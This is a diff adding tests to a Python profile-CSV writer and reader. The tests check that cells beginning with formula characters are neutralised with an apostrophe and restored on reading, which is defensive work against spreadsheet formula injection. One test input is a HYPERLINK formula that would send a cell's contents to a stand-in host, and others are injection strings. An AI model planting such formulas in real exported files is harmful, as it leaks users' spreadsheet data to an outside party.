@@ -26,6 +26,8 @@ from my_utils.core.profile_csv import (
 from my_utils.core.profile_csv_writer import ProfileCsvWriter
 
 BASE_NS = 1_764_000_000_123_456_000
+# what Excel, LibreOffice and Google Sheets run as a formula when a text cell starts with it
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
 row_args = st.tuples(
@@ -88,6 +90,8 @@ def test_valid_rows_round_trip(tmp_path: Path, rows: list[tuple]) -> None:
     path = write(tmp_path, text.encode("utf-8"))
     got = read_profile_csv(path)
     assert len(got) == len(rows)
+    for record in list(csv.reader(io.StringIO(text)))[1:]:  # as a spreadsheet sees the cells
+        assert not any(record[i].startswith(FORMULA_START) for i in (2, 4, 5, 7)), record
     for (ns, machine, step, name, etype, dur, meta), row in zip(rows, got, strict=True):
         assert (row.machine_id, row.step, row.event_name, row.event_type) == (machine, step, name, etype.strip())
         assert row.duration_ms == dur
@@ -192,6 +196,17 @@ def _raised(fn: Callable[[], object]) -> BaseException:
     except BaseException as exc:
         return exc
     raise AssertionError("no error raised")
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1:A9)",
+                                  "\t=1", "'=already quoted", "''+twice", "=a,b\nc", "\uff1dcmd"])
+def test_formula_names_are_neutralised_in_the_file_and_restored_by_the_reader(tmp_path: Path, name: str) -> None:
+    line = format_profile_line(BASE_NS, "=host_rank0", 1, name, "-START", 0.0, "@k=v")
+    path = write(tmp_path, (HEADER_LINE + line).encode())
+    (cells,) = list(csv.reader(io.StringIO(line)))
+    assert [cells[i][:1] for i in (2, 4, 5, 7)] == ["'"] * 4
+    (row,) = read_profile_csv(path)
+    assert (row.machine_id, row.event_name, row.event_type, row.metadata) == ("=host_rank0", name, "-START", "@k=v")
 
 
 def test_empty_file_bom_and_blank_lines(tmp_path: Path) -> None:
